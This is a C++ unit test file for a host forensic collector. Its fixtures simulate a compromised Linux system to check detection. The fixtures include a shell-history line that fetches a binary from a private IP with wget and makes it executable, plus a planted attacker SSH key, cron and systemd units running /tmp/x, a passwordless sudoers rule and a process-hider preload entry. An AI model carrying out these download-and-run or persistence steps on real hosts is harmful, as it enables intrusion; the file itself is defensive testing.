// The host collectors (logins, kernel, temp_files, persistence) against a fixture root built
// in a temp dir: files, a FIFO planted as a history, utmp records written by the test.
#include <arpa/inet.h>
#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>
#include <utmp.h>

#include <algorithm>
#include <chrono>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <optional>
#include <string>

#include "agent/collect/collectors.h"
#include "agent/collect/host_files.h"
#include "tests/unit/agent/memory_sink.h"

namespace bulkhead::agent::collect {
namespace {

namespace fs = std::filesystem;
using testing::MemorySink;
using Clock = std::chrono::steady_clock;

// Finds the first record of `records` whose `key` equals `value`; null json when none.
nlohmann::json find(const std::vector<nlohmann::json>& records, const std::string& key,
                    const nlohmann::json& value) {
  for (const auto& r : records) {
    if (r.contains(key) && r[key] == value) return r;
  }
  return nullptr;
}

bool anyWarningContains(const MemorySink& sink, const std::string& text) {
  for (const auto& w : sink.warnings) {
    if (w.find(text) != std::string::npos) return true;
  }
  return false;
}

struct utmp utmpRecord(short type, const char* user, const char* line, const char* host, pid_t pid,
                       int64_t sec, int32_t usec) {
  struct utmp u;
  std::memset(&u, 0, sizeof u);
  u.ut_type = type;
  u.ut_pid = pid;
  std::strncpy(u.ut_line, line, sizeof u.ut_line);
  std::strncpy(u.ut_user, user, sizeof u.ut_user);  // may fill the field without a NUL
  std::strncpy(u.ut_host, host, sizeof u.ut_host);
  u.ut_session = 77;
  u.ut_tv.tv_sec = static_cast<int32_t>(sec);
  u.ut_tv.tv_usec = usec;
  return u;
}

class CollectHostTest : public ::testing::Test {
 protected:
  void SetUp() override {
    char tmpl[] = "/tmp/collect_host_test.XXXXXX";
    ASSERT_NE(::mkdtemp(tmpl), nullptr);
    root_ = tmpl;
    ctx_.root = root_;
    ctx_.proc_root = root_ / "proc";
  }
  void TearDown() override {
    std::error_code ec;
    fs::remove_all(root_, ec);
  }

  fs::path write(const std::string& rel, const std::string& content) {
    fs::path p = root_ / rel;
    fs::create_directories(p.parent_path());
    std::ofstream(p, std::ios::binary) << content;
    return p;
  }
  void writeUtmp(const std::string& rel, const std::vector<struct utmp>& records) {
    std::string bytes;
    for (const auto& u : records) bytes.append(reinterpret_cast<const char*>(&u), sizeof u);
    write(rel, bytes);
  }

  fs::path root_;
  CollectContext ctx_;
};

TEST_F(CollectHostTest, LoginsDecodeSessionsAndAccountingFiles) {
  write("run/systemd/sessions/7",
        "# This is private data. Do not parse.\nUID=1000\nUSER=u\nACTIVE=1\nSTATE=active\n"
        "REMOTE=1\nTYPE=tty\nCLASS=user\nSCOPE=session-7.scope\nSERVICE=sshd\nLEADER=4242\n"
        "TTY=pts/0\nREMOTE_HOST=10.77.0.66\nREALTIME=1700000000123456\n");
  ASSERT_EQ(::mkfifo((root_ / "run/systemd/sessions/7.ref").c_str(), 0600), 0);

  struct utmp login =
      utmpRecord(USER_PROCESS, "u", "pts/0", "10.77.0.66", 4242, 1700000000, 250000);
  inet_pton(AF_INET, "10.77.0.66", &login.ut_addr_v6[0]);
  struct utmp v6 = utmpRecord(USER_PROCESS, "averyveryverylongusernamefilling", "pts/1", "fd77::66",
                              4243, 1700000100, 0);
  inet_pton(AF_INET6, "fd77::66", v6.ut_addr_v6);
  struct utmp boot = utmpRecord(BOOT_TIME, "reboot", "~", "6.1.0", 0, 1690000000, 0);
  writeUtmp("var/log/wtmp", {boot, login, v6});
  struct utmp bad =
      utmpRecord(LOGIN_PROCESS, "admin", "ssh:notty", "10.77.9.9", 999, 1700000200, 0);
  inet_pton(AF_INET, "10.77.9.9", &bad.ut_addr_v6[0]);
  writeUtmp("var/log/btmp", {bad, bad});
  writeUtmp("var/run/utmp", {login});  // only the fallback path exists

  MemorySink sink;
  ASSERT_TRUE(makeLoginCollector()->collect(ctx_, sink).ok());

  auto sessions = sink.of("logind_sessions.jsonl");
  ASSERT_EQ(sessions.size(), 1u) << "the .ref FIFO is not a session";
  EXPECT_EQ(sessions[0]["id"], "7");
  EXPECT_EQ(sessions[0]["user"], "u");
  EXPECT_EQ(sessions[0]["uid"], 1000);
  EXPECT_EQ(sessions[0]["remote_host"], "10.77.0.66");
  EXPECT_EQ(sessions[0]["tty"], "pts/0");
  EXPECT_EQ(sessions[0]["service"], "sshd");
  EXPECT_EQ(sessions[0]["leader"], 4242);
  EXPECT_EQ(sessions[0]["state"], "active");
  EXPECT_EQ(sessions[0]["class"], "user");
  EXPECT_EQ(sessions[0]["started_at_unix_ms"], 1700000000123);

  auto wtmp = sink.of("wtmp.jsonl");
  ASSERT_EQ(wtmp.size(), 3u);
  EXPECT_EQ(wtmp[0]["type"], "boot_time");
  EXPECT_EQ(wtmp[0]["address"], nullptr);
  EXPECT_EQ(wtmp[1]["type"], "user_process");
  EXPECT_EQ(wtmp[1]["user"], "u");
  EXPECT_EQ(wtmp[1]["line"], "pts/0");
  EXPECT_EQ(wtmp[1]["host"], "10.77.0.66");
  EXPECT_EQ(wtmp[1]["pid"], 4242);
  EXPECT_EQ(wtmp[1]["session"], 77);
  EXPECT_EQ(wtmp[1]["address"], "10.77.0.66");
  EXPECT_EQ(wtmp[1]["at_unix_ms"], int64_t{1700000000250});
  EXPECT_EQ(wtmp[2]["user"], "averyveryverylongusernamefilling") << "32 bytes without a NUL";
  EXPECT_EQ(wtmp[2]["address"], "fd77::66");

  auto btmp = sink.of("btmp.jsonl");
  ASSERT_EQ(btmp.size(), 2u);
  EXPECT_EQ(btmp[0]["type"], "login_process");
  EXPECT_EQ(btmp[0]["user"], "admin");
  EXPECT_EQ(btmp[0]["address"], "10.77.9.9");

  auto utmp = sink.of("utmp.jsonl");
  ASSERT_EQ(utmp.size(), 1u);
  EXPECT_EQ(utmp[0]["source"], "/var/run/utmp");
}

TEST_F(CollectHostTest, WtmpKeepsTheLastRecordsOnly) {
  std::vector<struct utmp> many;
  for (int i = 0; i < 6000; ++i) {
    many.push_back(utmpRecord(USER_PROCESS, "u", "pts/0", "h", i, 1700000000 + i, 0));
  }
  writeUtmp("var/log/wtmp", many);
  MemorySink sink;
  ASSERT_TRUE(makeLoginCollector()->collect(ctx_, sink).ok());
  auto wtmp = sink.of("wtmp.jsonl");
  ASSERT_EQ(wtmp.size(), 5000u);
  EXPECT_EQ(wtmp.front()["pid"], 1000);
  EXPECT_EQ(wtmp.back()["pid"], 5999);
  EXPECT_TRUE(anyWarningContains(sink, "only the last 5000"));
}

TEST_F(CollectHostTest, KernelDecodesModulesTaintAndPreload) {
  write("proc/modules",
        "nf_tables 327680 3 nft_chain_nat,nft_ct, Live 0xffffffffc0a00000\n"
        "diamorphine 16384 0 - Live 0x0000000000000000 (OE)\n");
  write("proc/sys/kernel/tainted", "12288\n");  // O (12) + E (13)
  write("proc/cmdline", "BOOT_IMAGE=/vmlinuz root=/dev/sda1 ro quiet\n");
  write("etc/ld.so.preload",
        "# planted\n/lib/x86_64-linux-gnu/libprocesshider.so\n\n"
        "/usr/lib/a.so:/usr/lib/b.so  # two more\n");
  write("sys/module/nf_tables/initstate", "live\n");
  write("sys/module/hidden_mod/initstate", "live\n");
  write("sys/module/kernel/parameters/x", "1\n");  // built-in: no initstate

  MemorySink sink;
  ASSERT_TRUE(makeKernelCollector()->collect(ctx_, sink).ok());

  auto modules = sink.of("kernel_modules.jsonl");
  ASSERT_EQ(modules.size(), 2u);
  EXPECT_EQ(modules[0]["name"], "nf_tables");
  EXPECT_EQ(modules[0]["size"], 327680);
  EXPECT_EQ(modules[0]["refcount"], 3);
  EXPECT_EQ(modules[0]["used_by"], nlohmann::json({"nft_chain_nat", "nft_ct"}));
  EXPECT_EQ(modules[0]["state"], "Live");
  EXPECT_EQ(modules[0]["taint"], "");
  EXPECT_EQ(modules[1]["used_by"], nlohmann::json::array());
  EXPECT_EQ(modules[1]["taint"], "OE");

  ASSERT_TRUE(sink.files.count("artifacts/kernel.json"));
  auto k = nlohmann::json::parse(sink.files["artifacts/kernel.json"]);
  EXPECT_EQ(k["tainted"], 12288);
  ASSERT_EQ(k["taint_flags"].size(), 2u);
  EXPECT_EQ(k["taint_flags"][0]["letter"], "O");
  EXPECT_EQ(k["taint_flags"][1]["letter"], "E");
  EXPECT_THAT(k["taint_flags"][1]["meaning"].get<std::string>(), ::testing::HasSubstr("unsigned"));
  EXPECT_EQ(k["cmdline"], "BOOT_IMAGE=/vmlinuz root=/dev/sda1 ro quiet");
  EXPECT_EQ(k["sysfs_only_modules"], nlohmann::json({"hidden_mod"}));

  auto preload = sink.of("preload.jsonl");
  ASSERT_EQ(preload.size(), 3u);
  EXPECT_EQ(preload[0]["source"], "/etc/ld.so.preload");
  EXPECT_EQ(preload[0]["entry"], "/lib/x86_64-linux-gnu/libprocesshider.so");
  EXPECT_EQ(preload[1]["entry"], "/usr/lib/a.so");
  EXPECT_EQ(preload[2]["entry"], "/usr/lib/b.so");
}

TEST_F(CollectHostTest, TempFilesListedWithLstatOnly) {
  write("tmp/.hidden/implant", "ELF");
  ASSERT_EQ(::chmod((root_ / "tmp/.hidden/implant").c_str(), 04755), 0);
  ASSERT_EQ(::symlink("/etc/shadow", (root_ / "tmp/link").c_str()), 0);
  ASSERT_EQ(::mkfifo((root_ / "tmp/pipe").c_str(), 0600), 0);
  write("tmp/a/b/c/d/e/too_deep", "x");
  fs::create_directories(root_ / "var/tmp");
  fs::create_directories(root_ / "dev/shm");
  write("dev/shm/payload", std::string(100, 'x'));
  write(std::string("tmp/bad\xff"
                    "name"),
        "");  // not UTF-8
  ASSERT_EQ(::chmod((root_ / "tmp").c_str(), 01777), 0);

  MemorySink sink;
  const auto start = Clock::now();
  ASSERT_TRUE(makeTempFilesCollector()->collect(ctx_, sink).ok());
  EXPECT_LT(Clock::now() - start, std::chrono::seconds(2)) << "the FIFO was never opened";
  auto list = sink.of("tmp_listing.jsonl");

  auto top = find(list, "path", "/tmp");
  ASSERT_FALSE(top.is_null());
  EXPECT_EQ(top["type"], "dir");
  EXPECT_EQ(top["mode"], "1777");
  auto implant = find(list, "path", "/tmp/.hidden/implant");
  ASSERT_FALSE(implant.is_null());
  EXPECT_EQ(implant["type"], "file");
  EXPECT_EQ(implant["mode"], "4755");
  EXPECT_EQ(implant["size"], 3);
  EXPECT_EQ(implant["uid"], ::getuid());
  EXPECT_GT(implant["mtime_unix_ms"].get<int64_t>(), 0);
  EXPECT_GT(implant["inode"].get<uint64_t>(), 0u);
  auto link = find(list, "path", "/tmp/link");
  ASSERT_FALSE(link.is_null());
  EXPECT_EQ(link["type"], "symlink");
  EXPECT_EQ(link["link_target"], "/etc/shadow");
  EXPECT_EQ(find(list, "path", "/tmp/pipe")["type"], "fifo");
  EXPECT_FALSE(find(list, "path", "/tmp/a/b/c/d").is_null()) << "depth 4 is listed";
  EXPECT_TRUE(find(list, "path", "/tmp/a/b/c/d/e").is_null()) << "depth 5 is not";
  EXPECT_EQ(find(list, "path", "/dev/shm/payload")["size"], 100);
  EXPECT_FALSE(find(list, "path", "/var/tmp").is_null());
  auto bad = find(list, "path_base64", "L3RtcC9iYWT/bmFtZQ==");  // "/tmp/bad\xffname"
  ASSERT_FALSE(bad.is_null()) << "non-UTF-8 names are kept exactly";
  EXPECT_EQ(bad["path"], "/tmp/bad\xEF\xBF\xBDname");
  // Breadth first: every depth-1 entry comes before any depth-2 entry.
  size_t last_depth1 = 0, first_depth2 = list.size();
  for (size_t i = 0; i < list.size(); ++i) {
    std::string p = list[i]["path"];
    if (!p.starts_with("/tmp/")) continue;
    size_t depth = std::count(p.begin(), p.end(), '/') - 1;
    if (depth == 1) last_depth1 = i;
    if (depth == 2 && i < first_depth2) first_depth2 = i;
  }
  EXPECT_LT(last_depth1, first_depth2);
}

TEST_F(CollectHostTest, TempFilesSkipMountsThatMayHang) {
  write("proc/self/mountinfo",
        "22 27 0:21 / /proc rw,relatime - proc proc rw\n"
        "40 27 0:50 / /tmp/fuse\\040dir rw,nosuid - fuse.sshfs evil@10.77.0.66:/ rw\n"
        "41 27 0:51 / /var/tmp/nfs rw - nfs4 10.77.0.66:/x rw\n"
        "42 27 0:52 / /tmp/plain rw - tmpfs tmpfs rw\n");
  fs::create_directories(root_ / "tmp/fuse dir");
  write("tmp/fuse dir/inside", "x");
  write("var/tmp/nfs/inside", "x");
  write("tmp/plain/inside", "x");
  MemorySink sink;
  ASSERT_TRUE(makeTempFilesCollector()->collect(ctx_, sink).ok());
  auto list = sink.of("tmp_listing.jsonl");
  EXPECT_TRUE(find(list, "path", "/tmp/fuse dir").is_null());
  EXPECT_TRUE(find(list, "path", "/tmp/fuse dir/inside").is_null());
  EXPECT_TRUE(find(list, "path", "/var/tmp/nfs").is_null());
  EXPECT_FALSE(find(list, "path", "/tmp/plain/inside").is_null());
  EXPECT_TRUE(
      anyWarningContains(sink, "/tmp/fuse dir: mount point of a file system that may hang"));
  EXPECT_TRUE(anyWarningContains(sink, "/var/tmp/nfs: mount point"));
}

TEST_F(CollectHostTest, TempFilesCutAtTheEntryLimit) {
  // The limit is per tree: 20,000 entries; a tree with more is cut and warned about.
  fs::create_directories(root_ / "tmp/flood");
  // Hard links of one file: 20,100 names without 20,100 inodes (fast to create and remove).
  write("tmp/flood/f0", "");
  for (int i = 1; i < 20100; ++i) {
    ASSERT_EQ(
        ::link((root_ / "tmp/flood/f0").c_str(), (root_ / fmt::format("tmp/flood/f{}", i)).c_str()),
        0);
  }
  write("var/tmp/after", "x");
  MemorySink sink;
  const auto start = Clock::now();
  ASSERT_TRUE(makeTempFilesCollector()->collect(ctx_, sink).ok());
  std::printf(
      "temp_files over 20,100 entries: %lld ms\n",
      static_cast<long long>(
          std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - start).count()));
  auto list = sink.of("tmp_listing.jsonl");
  EXPECT_EQ(list.size(), 20000u + 2u) << "20,000 of /tmp, then /var/tmp and its file";
  EXPECT_FALSE(find(list, "path", "/var/tmp/after").is_null());
  EXPECT_TRUE(anyWarningContains(sink, "/tmp: listing cut at 20000"));
}

TEST_F(CollectHostTest, PersistenceFindsKeysCronUnitsSudoersAndHistories) {
  write("etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n"
        "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
        "u:x:1000:1000:U User,,,:/home/u:/bin/bash\n"
        "v:x:1001:1001::/home/v:/bin/sh\n");
  write("etc/group", "root:x:0:\nsudo:x:27:u,v\nu:x:1000:\n");
  write("etc/shadow", "u:$6$secret:19000:0:99999:7:::\n");
  write("home/u/.ssh/authorized_keys",
        "# managed\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIlegit u@laptop\n\n"
        "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQevil attacker@c2\n");
  const std::string history = "id\nwget http://10.77.0.66/x -O /tmp/x\nchmod +x /tmp/x\n";
  write("home/u/.bash_history", history);
  fs::create_directories(root_ / "home/v");
  ASSERT_EQ(::mkfifo((root_ / "home/v/.bash_history").c_str(), 0600), 0);
  write("root/.python_history", std::string(70000, 'a') + "import os\n");
  write("etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
  write("etc/cron.d/evil", "* * * * * root /tmp/x\n");
  write("etc/cron.daily/logrotate", "#!/bin/sh\n");
  write("var/spool/cron/crontabs/u", "@reboot /tmp/x\n");
  write("etc/systemd/system/evil.service", "[Service]\nExecStart=/tmp/x\n");
  write("etc/systemd/system/evil.timer", "[Timer]\nOnCalendar=*:0/5\n");
  fs::create_directories(root_ / "etc/systemd/system/timers.target.wants");
  ASSERT_EQ(::symlink("/etc/systemd/system/evil.timer",
                      (root_ / "etc/systemd/system/timers.target.wants/evil.timer").c_str()),
            0);
  write("etc/systemd/system/ssh.service.d/override.conf", "[Service]\nExecStartPost=/tmp/x\n");
  write("home/u/.config/systemd/user/miner.service", "[Service]\nExecStart=/home/u/.m\n");
  write("usr/lib/systemd/system/apt-daily.timer", "[Timer]\n");
  write("usr/lib/systemd/system/apt-daily.service", "[Service]\n");
  ASSERT_EQ(::symlink("usr/lib", (root_ / "lib").c_str()), 0);  // merged /usr
  write("etc/sudoers", "root ALL=(ALL:ALL) ALL\n");
  write("etc/sudoers.d/99-u", "u ALL=(ALL) NOPASSWD: ALL\n");
  write("etc/ssh/sshd_config",
        "Include /etc/ssh/sshd_config.d/*.conf\n"
        "AuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2\n");
  write("etc/ssh/sshd_config.d/50-x.conf", "Match User u\n  AuthorizedKeysFile /etc/ssh/keys/%u\n");
  write("etc/ssh/keys/u", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIhidden backdoor@c2\n");
  // Symlinks in homes are recorded, never followed (absolute: they would reach the real
  // /etc/shadow of this machine if they were).
  fs::create_directories(root_ / "root/.ssh");
  for (const char* link : {"root/.bash_history", "root/.ssh/authorized_keys",
                           "home/u/.config/systemd/user/shadow.service"}) {
    ASSERT_EQ(::symlink("/etc/shadow", (root_ / link).c_str()), 0) << link;
  }

  MemorySink sink;
  const auto start = Clock::now();
  ASSERT_TRUE(makePersistenceCollector()->collect(ctx_, sink).ok());
  EXPECT_LT(Clock::now() - start, std::chrono::seconds(2)) << "a FIFO history must not block";
  EXPECT_TRUE(anyWarningContains(sink, "/home/v/.bash_history: not a regular file (fifo)"));

  auto accounts = sink.of("accounts.jsonl");
  auto u = find(accounts, "name", "u");
  ASSERT_FALSE(u.is_null());
  EXPECT_EQ(u["source"], "passwd");
  EXPECT_EQ(u["id"], 1000);
  EXPECT_EQ(u["gid"], 1000);
  EXPECT_EQ(u["home"], "/home/u");
  EXPECT_EQ(u["shell"], "/bin/bash");
  auto sudo = find(accounts, "name", "sudo");
  ASSERT_FALSE(sudo.is_null());
  EXPECT_EQ(sudo["source"], "group");
  EXPECT_EQ(sudo["id"], 27);
  EXPECT_EQ(sudo["members"], nlohmann::json({"u", "v"}));
  for (const auto& r : sink.records) {
    for (const auto& rec : r.second) {
      EXPECT_EQ(rec.dump().find("$6$secret"), std::string::npos) << "shadow is never read";
    }
  }

  auto keys = sink.of("authorized_keys.jsonl");
  auto root_keys = find(keys, "path", "/root/.ssh/authorized_keys");
  ASSERT_FALSE(root_keys.is_null());
  EXPECT_EQ(root_keys["link_target"], "/etc/shadow");
  EXPECT_EQ(root_keys["line"], nullptr);
  EXPECT_EQ(root_keys["user"], "root");
  keys.erase(std::remove(keys.begin(), keys.end(), root_keys), keys.end());
  auto hidden = find(keys, "path", "/etc/ssh/keys/u");
  ASSERT_FALSE(hidden.is_null()) << "AuthorizedKeysFile of sshd_config.d is followed";
  EXPECT_EQ(hidden["user"], "u");
  EXPECT_EQ(hidden["line_no"], 1);
  keys.erase(std::remove(keys.begin(), keys.end(), hidden), keys.end());
  ASSERT_EQ(keys.size(), 2u);
  EXPECT_EQ(keys[1]["user"], "u");
  EXPECT_EQ(keys[1]["path"], "/home/u/.ssh/authorized_keys");
  EXPECT_EQ(keys[1]["line_no"], 4);
  EXPECT_THAT(keys[1]["line"].get<std::string>(), ::testing::HasSubstr("attacker@c2"));
  EXPECT_GT(keys[1]["mtime_unix_ms"].get<int64_t>(), 0);

  auto cron = sink.of("crontabs.jsonl");
  auto evil = find(cron, "path", "/etc/cron.d/evil");
  ASSERT_FALSE(evil.is_null());
  EXPECT_EQ(evil["content"], "* * * * * root /tmp/x\n");
  EXPECT_GT(evil["mtime_unix_ms"].get<int64_t>(), 0);
  EXPECT_EQ(find(cron, "path", "/var/spool/cron/crontabs/u")["user"], "u");
  EXPECT_EQ(find(cron, "path", "/etc/cron.daily/logrotate")["user"], "root");
  EXPECT_FALSE(find(cron, "path", "/etc/crontab").is_null());

  auto units = sink.of("systemd_units.jsonl");
  auto service = find(units, "path", "/etc/systemd/system/evil.service");
  ASSERT_FALSE(service.is_null());
  EXPECT_EQ(service["name"], "evil.service");
  EXPECT_EQ(service["kind"], "service");
  EXPECT_EQ(service["content"], "[Service]\nExecStart=/tmp/x\n");
  EXPECT_EQ(find(units, "path", "/etc/systemd/system/evil.timer")["kind"], "timer");
  auto wants = find(units, "path", "/etc/systemd/system/timers.target.wants/evil.timer");
  ASSERT_FALSE(wants.is_null());
  EXPECT_EQ(wants["link_target"], "/etc/systemd/system/evil.timer");
  EXPECT_EQ(find(units, "path", "/etc/systemd/system/ssh.service.d/override.conf")["kind"],
            "dropin");
  EXPECT_FALSE(find(units, "path", "/home/u/.config/systemd/user/miner.service").is_null());
  auto shadow_unit = find(units, "path", "/home/u/.config/systemd/user/shadow.service");
  ASSERT_FALSE(shadow_unit.is_null());
  EXPECT_EQ(shadow_unit["link_target"], "/etc/shadow");
  EXPECT_FALSE(shadow_unit.contains("content"));
  int vendor_timers = 0;
  for (const auto& r : units) {
    if (r["name"] == "apt-daily.timer") ++vendor_timers;
    EXPECT_NE(r["name"], "apt-daily.service") << "vendor services are not listed";
  }
  EXPECT_EQ(vendor_timers, 1) << "/lib -> /usr/lib: one record per file";

  auto sudoers = sink.of("sudoers.jsonl");
  ASSERT_EQ(sudoers.size(), 2u);
  EXPECT_EQ(find(sudoers, "path", "/etc/sudoers.d/99-u")["content"], "u ALL=(ALL) NOPASSWD: ALL\n");

  auto hist = sink.of("shell_history.jsonl");
  ASSERT_EQ(hist.size(), 3u);
  auto root_hist = find(hist, "path", "/root/.bash_history");
  ASSERT_FALSE(root_hist.is_null());
  EXPECT_EQ(root_hist["link_target"], "/etc/shadow");
  EXPECT_FALSE(root_hist.contains("content")) << "a symlink in a home is never followed";
  auto uh = find(hist, "path", "/home/u/.bash_history");
  ASSERT_FALSE(uh.is_null());
  EXPECT_EQ(uh["user"], "u");
  EXPECT_THAT(uh["content"].get<std::string>(), ::testing::HasSubstr("wget http://10.77.0.66/x"));
  EXPECT_EQ(uh["size"], history.size());
  EXPECT_EQ(uh["truncated"], false);
  auto py = find(hist, "path", "/root/.python_history");
  ASSERT_FALSE(py.is_null());
  EXPECT_EQ(py["user"], "root");
  EXPECT_EQ(py["size"], 70010);
  EXPECT_EQ(py["content"].get<std::string>().size(), 64u * 1024);
  EXPECT_TRUE(py["content"].get<std::string>().ends_with("import os\n")) << "the last 64 KiB";
  EXPECT_EQ(py["truncated"], true);
}

// A directory on the way to a user's file is a symlink (~/.ssh -> root's .ssh): the link is
// recorded, nothing behind it is read as the user's.
TEST_F(CollectHostTest, PersistenceRecordsSymlinkedDirectoriesInHomesWithoutFollowing) {
  write("etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n"
        "w:x:1002:1002::/home/w:/bin/bash\n");
  write("etc/group", "w:x:1002:\n");
  const fs::path elsewhere = root_ / "elsewhere";
  write("elsewhere/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIroot root@admin\n");
  write("elsewhere/.config/systemd/user/root-only.service", "[Service]\nExecStart=/x\n");
  write("elsewhere/history", "secret command of someone else\n");
  fs::create_directories(root_ / "home/w/.local");
  ASSERT_EQ(::symlink((elsewhere / ".ssh").c_str(), (root_ / "home/w/.ssh").c_str()), 0);
  ASSERT_EQ(::symlink((elsewhere / ".config").c_str(), (root_ / "home/w/.config").c_str()), 0);
  // A relative link on the way works the same.
  ASSERT_EQ(::symlink("../../../elsewhere", (root_ / "home/w/.local/share").c_str()), 0);
  write("etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys .local/share/history\n");

  MemorySink sink;
  ASSERT_TRUE(makePersistenceCollector()->collect(ctx_, sink).ok());
  for (const auto& r : sink.records) {
    for (const auto& rec : r.second) {
      EXPECT_EQ(rec.dump().find("root@admin"), std::string::npos) << rec.dump();
      EXPECT_EQ(rec.dump().find("someone else"), std::string::npos) << rec.dump();
      EXPECT_NE(rec.value("path", ""), "/home/w/.config/systemd/user/root-only.service");
    }
  }
  auto keys = sink.of("authorized_keys.jsonl");
  auto ssh = find(keys, "requested_path", "/home/w/.ssh/authorized_keys");
  ASSERT_FALSE(ssh.is_null()) << "the link is recorded";
  EXPECT_EQ(ssh["path"], "/home/w/.ssh");
  EXPECT_EQ(ssh["link_target"], (elsewhere / ".ssh").string());
  EXPECT_EQ(ssh["user"], "w");
  EXPECT_EQ(ssh["line"], nullptr);
  auto rel = find(keys, "requested_path", "/home/w/.local/share/history");
  ASSERT_FALSE(rel.is_null());
  EXPECT_EQ(rel["path"], "/home/w/.local/share");
  EXPECT_EQ(rel["link_target"], "../../../elsewhere");
  auto units = sink.of("systemd_units.jsonl");
  auto config = find(units, "path", "/home/w/.config");
  ASSERT_FALSE(config.is_null()) << "the unit directory's link is listed";
  EXPECT_EQ(config["link_target"], (elsewhere / ".config").string());
  EXPECT_FALSE(config.contains("content"));
}

TEST(HostFilesTest, ReadUserFileNeverFollowsAComponentBelowTheTrustedDirectory) {
  char tmpl[] = "/tmp/read_user_file.XXXXXX";
  ASSERT_NE(::mkdtemp(tmpl), nullptr);
  const fs::path root = tmpl;
  fs::create_directories(root / "home/u/real");
  std::ofstream(root / "home/u/real/f") << "mine";
  fs::create_directories(root / "secret");
  std::ofstream(root / "secret/f") << "not yours";
  ASSERT_EQ(::symlink((root / "secret").c_str(), (root / "home/u/dir").c_str()), 0);
  ASSERT_EQ(::symlink((root / "secret/f").c_str(), (root / "home/u/real/g").c_str()), 0);
  // The trusted part may itself hold a symlink (/home -> /var/home).
  ASSERT_EQ(::symlink("home", (root / "homes").c_str()), 0);
  std::optional<SymlinkOnPath> link;
  auto ok = readUserFile(root, "/homes/u", "/homes/u/real/f", 100, false, &link);
  ASSERT_TRUE(ok.ok()) << ok.status();
  EXPECT_EQ(ok->bytes, "mine");
  EXPECT_FALSE(link.has_value());
  auto mid = readUserFile(root, "/home/u", "/home/u/dir/f", 100, false, &link);
  EXPECT_EQ(mid.status().code(), absl::StatusCode::kFailedPrecondition);
  ASSERT_TRUE(link.has_value());
  EXPECT_EQ(link->host_path, "/home/u/dir");
  EXPECT_EQ(link->target, (root / "secret").string());
  auto last = readUserFile(root, "/home/u", "/home/u/real/g", 100, false, &link);
  EXPECT_EQ(last.status().code(), absl::StatusCode::kFailedPrecondition);
  ASSERT_TRUE(link.has_value());
  EXPECT_EQ(link->host_path, "/home/u/real/g");
  auto up = readUserFile(root, "/home/u", "/home/u/../../secret/f", 100, false, &link);
  EXPECT_EQ(up.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_TRUE(absl::IsNotFound(
      readUserFile(root, "/home/u", "/home/u/none/f", 100, false, &link).status()));
  std::error_code ec;
  fs::remove_all(root, ec);
}

TEST_F(CollectHostTest, CollectorsStopWhenTheSinkStops) {
  write("etc/passwd", "u:x:1000:1000::/home/u:/bin/bash\n");
  write("tmp/x", "");
  MemorySink sink;
  sink.stop = true;
  for (auto& c : {makePersistenceCollector(), makeTempFilesCollector(), makeLoginCollector(),
                  makeKernelCollector()}) {
    EXPECT_TRUE(c->collect(ctx_, sink).ok()) << c->name();
  }
  EXPECT_TRUE(sink.records.empty());
}

TEST(HostFilesTest, ReadRegularFileRefusesFifosAndDevicesWithoutOpening) {
  auto dev = readRegularFile("/dev/null", 10);
  ASSERT_FALSE(dev.ok());
  EXPECT_THAT(std::string(dev.status().message()), ::testing::HasSubstr("chardev"));
  auto missing = readRegularFile("/nonexistent/file", 10);
  EXPECT_TRUE(absl::IsNotFound(missing.status()));
}

TEST(HostFilesTest, PutTextKeepsInvalidUtf8Exactly) {
  nlohmann::json r;
  putText(r, "k", "plain");
  EXPECT_EQ(r["k"], "plain");
  EXPECT_FALSE(r.contains("k_base64"));
  putText(r, "u", "caf\xC3\xA9");
  EXPECT_EQ(r["u"], "caf\xC3\xA9");
  EXPECT_FALSE(r.contains("u_base64"));
  putText(r, "b", std::string_view("a\xFF\0b", 4));
  EXPECT_EQ(r["b"], std::string("a\xEF\xBF\xBD\0b", 6));
  EXPECT_EQ(r["b_base64"], "Yf8AYg==");
  EXPECT_NO_THROW(r.dump());
}

}  // namespace
}  // namespace bulkhead::agent::collect
